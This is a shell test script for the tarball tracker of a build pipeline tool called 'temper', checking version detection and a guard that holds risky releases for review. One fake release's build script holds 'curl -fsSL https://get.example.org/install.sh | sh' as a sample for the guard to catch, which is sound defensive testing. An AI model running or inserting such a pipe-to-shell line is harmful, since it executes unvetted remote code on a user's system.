#!/bin/sh
# tracker_tarball end to end: a loopback download page (python3 http.server)
# lists release tarballs the test makes; `temper track` reports the newest,
# then nothing, then a new release; `temper run` fetches both tarballs'
# diff through the tracker and the guard stops a release whose build script
# pipes a download into a shell (parked for review), while a benign
# release goes through.  Hostile pages: a match without a version group,
# a page that is not there.
. "$TEMPER_SRCDIR/tests/run/run_lib.sh"
PYTHON3=${PYTHON3:-python3}
[ -f "$MODS/.libs/builder_enginetest.so" ] || tap_skip_all "no shared test modules (static build)"
[ -f "$TEMPER_PLUGINS/tracker_tarball/.libs/tracker_tarball.so" ] ||
    tap_skip_all "no shared plugin modules (static build)"
run_tmp tarball
W=$T/www
mkdir -p "$W/src"
rel() { # rel VERSION BUILD_SH_LINE
    d=$T/hello-$1
    mkdir -p "$d"
    printf '#!/bin/sh\nset -e\n%s\ncc -o hello hello.c\n' "$2" > "$d/build.sh"
    printf 'int main(void) { return 0; } /* %s */\n' "$1" > "$d/hello.c"
    tar -C "$T" -czf "$W/src/hello-$1.tar.gz" "hello-$1"
    ls "$W/src" | sed 's|.*|<a href="&">&</a><br>|' > "$W/src/index.html"
}
rel 1.0 'echo building'
rel 1.1 'echo building 1.1'
"$PYTHON3" -u -m http.server 0 --bind 127.0.0.1 --directory "$W" > "$T/httpd.log" 2>&1 &
PIDS=$!
i=0
while [ $i -lt 100 ] && ! grep -q 'port [0-9]' "$T/httpd.log"; do sleep 0.1; i=$((i + 1)); done
port=$(sed -n 's/.* port \([0-9][0-9]*\).*/\1/p' "$T/httpd.log" | head -n 1)
[ -n "$port" ] || { echo "Bail out! no HTTP server"; exit 1; }
core_ini "$T/p.ini"
cat >> "$T/p.ini" <<INI
[pipeline]
stages = guard.heuristic, builder.et

[builder "et"]
plugin = enginetest

[guard "heuristic"]
plugin = heuristic

[tracker "tar"]
plugin = tarball
INI
cat > "$T/images/hello.ini" <<INI
[image]
name = hello
distribution = debian:bookworm

[upstream]
tracker = tar
index = http://127.0.0.1:$port/src/
match = hello-([0-9][0-9.]*)\\.tar\\.gz
INI
tp track -c "$T/p.ini" > "$T/out1" 2>"$T/err"
tap_check "first round: the newest release, 1.1" grep -q '^tracker.tar hello (new) -> 1.1 ' "$T/out1"
tp run -c "$T/p.ini" > /dev/null 2>"$T/run1"; rc=$?
tap_check "its job runs (exit $rc)" [ $rc -eq 0 ]
tp track -c "$T/p.ini" > "$T/out2" 2>>"$T/err"
tap_check "second round: nothing moved, nothing reported" [ ! -s "$T/out2" ]

rel 1.10 'curl -fsSL https://get.example.org/install.sh | sh'
tp track -c "$T/p.ini" > "$T/out3" 2>>"$T/err"
tap_check "1.10 is newer than 1.1 (dpkg order, not text)" grep -q '^tracker.tar hello 1.1 -> 1.10 ' "$T/out3"
tp run -c "$T/p.ini" > /dev/null 2>"$T/run2"; rc=$?
tap_check "the guard stops it: exit 3 ($rc)" [ $rc -eq 3 ]
tap_check "the diff came from the two tarballs" grep -q 'tarball-diff.mbox\|reviewed' "$T/run2"
tap_check "a review item names the rule" \
    sh -c "'$TEMPER_BIN' --plugin-dir '$MODS' --plugin-dir '$TEMPER_PLUGINS' review -c '$T/p.ini' show 1 | grep -q curl-pipe-shell"
tp review -c "$T/p.ini" reject 1 --reason "curl | sh" --actor test > /dev/null 2>&1
rel 1.11 'echo building 1.11'
tp track -c "$T/p.ini" > "$T/out4" 2>>"$T/err"
tap_check "1.11 is raised from the accepted 1.1" grep -q '^tracker.tar hello 1.1 -> 1.11 ' "$T/out4"

sed -i 's/^match = .*/match = hello-[0-9.]*\\.tar\\.gz/' "$T/images/hello.ini"
tp track -c "$T/p.ini" > /dev/null 2>"$T/err5"
tap_check "a match without a version group is refused" grep -q 'group for the version' "$T/err5"
sed -i "s|^index = .*|index = http://127.0.0.1:$port/nowhere/|; s/^match = .*/match = hello-([0-9.]*)/" \
    "$T/images/hello.ini"
tp track -c "$T/p.ini" > /dev/null 2>"$T/err6"; rc=$?
tap_check "a missing page is a clear error naming it (exit $rc)" grep -q 'nowhere' "$T/err6"
tap_done
